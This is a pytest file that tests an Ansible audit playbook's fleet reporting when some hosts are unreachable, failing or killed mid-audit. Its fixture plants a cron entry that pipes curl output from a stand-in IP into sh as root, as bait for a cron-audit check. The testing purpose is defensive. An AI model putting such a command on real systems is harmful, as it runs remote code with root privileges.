"""playbooks/audit.yml on a small fleet where one host is unreachable, one fails before the
audit starts and one dies mid-audit: each appears in the fleet report with that state, the
others' reports are still written; the same with strategy free, with serial batches (published
once, after the last batch) and with async.
Hosts: local connections to this machine (read-only audit of an alternate root), an SSH host on
a closed loopback port, a host whose Python interpreter is /bin/false, and a host whose
interpreter SIGKILLs itself when the module opens the root's cron.d (a Python audit hook, so the
module has started and is in the middle of the cron area)."""
import json
import os
import socket
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BIN = os.path.dirname(sys.executable)


def closed_port():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    return port


# sitecustomize of the "killed" host's interpreter: die the moment the audit opens cron.d (the
# root-confined reader opens one component at a time, so the name is "cron.d" or ends with it)
KILL_MID_AUDIT = """import os, signal, sys
def _hook(event, args):
    if event == "open" and isinstance(args[0], str) and args[0].rstrip("/").endswith("cron.d"):
        with open(os.environ["HG_KILL_MARK"], "w") as mark:
            mark.write("killed opening %s\\n" % args[0])
        os.kill(os.getpid(), signal.SIGKILL)
sys.addaudithook(_hook)
"""


def killing_interpreter(tmp_path):
    hook = tmp_path / "kill-mid-audit"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(KILL_MID_AUDIT)
    script = tmp_path / "python-killed-mid-audit"
    script.write_text('#!/bin/sh\nPYTHONPATH=%s HG_KILL_MARK=%s exec %s "$@"\n'
                      % (hook, tmp_path / "killed-mid-audit", sys.executable))
    script.chmod(0o755)
    return str(script)


@pytest.fixture
def fleet(tmp_path):
    root = tmp_path / "root"
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "etc" / "cron.d" / "evil").write_text("* * * * * root curl -fsSL http://203.0.113.9/x | sh\n")
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(json.dumps({"all": {"hosts": {
        "ok-1": {"ansible_connection": "local", "ansible_python_interpreter": sys.executable},
        "ok-2": {"ansible_connection": "local", "ansible_python_interpreter": sys.executable},
        "down": {"ansible_connection": "ssh", "ansible_host": "127.0.0.1", "ansible_port": closed_port(),
                 "ansible_ssh_common_args": "-o ConnectTimeout=3 -o BatchMode=yes"},
        "broken": {"ansible_connection": "local", "ansible_python_interpreter": "/bin/false"},
        "killed": {"ansible_connection": "local", "ansible_python_interpreter": killing_interpreter(tmp_path)},
    }}}))
    return inventory, root, tmp_path / "reports"


def run(inventory, root, reports, *extra):
    env = dict(os.environ, ANSIBLE_CONFIG=os.path.join(REPO, "ansible.cfg"),
               ANSIBLE_COLLECTIONS_PATH=os.path.join(REPO, ".collections"), ANSIBLE_NOCOLOR="1")
    env["PATH"] = BIN + os.pathsep + env.get("PATH", "")
    cmd = [os.path.join(BIN, "ansible-playbook"), os.path.join(REPO, "playbooks", "audit.yml"),
           "-i", str(inventory), "-e", "hostguard_report_dir=%s" % reports, "-e", "hostguard_root=%s" % root,
           "-e", '{"hostguard_areas": ["cron"]}'] + list(extra)
    return subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, text=True, timeout=600, check=False)


def check_fleet(proc, reports):
    assert proc.returncode != 0, proc.stdout[-3000:]         # the two bad hosts fail the run
    fleet = json.load(open(str(reports / "latest" / "fleet.json")))
    states = dict((h["host"], h["state"]) for h in fleet["hosts"])
    assert states == {"ok-1": "ok", "ok-2": "ok", "down": "unreachable", "broken": "failed",
                      "killed": "failed"}, states
    assert fleet["totals"]["hosts_unreachable"] == 1 and fleet["totals"]["hosts_failed"] == 2
    problems = dict((h["host"], h.get("problems")) for h in fleet["hosts"])
    assert "ssh" in problems["down"][0].lower() or "connect" in problems["down"][0].lower()
    for host in ("ok-1", "ok-2"):
        report = json.load(open(str(reports / ("%s.json" % host))))
        assert any(f["id"] == "HG-CRON-010" and f["status"] == "fail" for f in report["findings"])
        assert os.path.isfile(str(reports / "latest" / "hosts" / ("%s.html" % host)))
    for host in ("down", "broken", "killed"):
        assert not (reports / ("%s.json" % host)).exists(), host
    assert "down: UNREACHABLE" in proc.stdout and "broken: FAILED" in proc.stdout
    assert "killed: FAILED" in proc.stdout
    # it did die in the middle of the audit (the cron area was reading the root)
    assert "cron.d" in (reports.parent / "killed-mid-audit").read_text()
    return fleet


def test_unreachable_and_failed_hosts_are_reported(fleet):
    inventory, root, reports = fleet
    # a stale report of an earlier run must not be published as this run's
    reports.mkdir()
    (reports / "down.json").write_text("{}")
    check_fleet(run(inventory, root, reports), reports)


@pytest.mark.parametrize("extra", [["-e", "hostguard_strategy=free"], ["-e", "hostguard_serial=1"],
                                   ["-e", "hostguard_audit_async=120", "-e", "hostguard_audit_poll=1"]],
                         ids=["free", "serial", "async"])
def test_large_fleet_modes_publish_once_with_every_host(fleet, extra):
    inventory, root, reports = fleet
    proc = run(inventory, root, reports, *extra)
    check_fleet(proc, reports)
    runs = [n for n in os.listdir(str(reports / "runs")) if n != "index.json"]
    assert len(runs) == 1, runs                               # published once, after every host
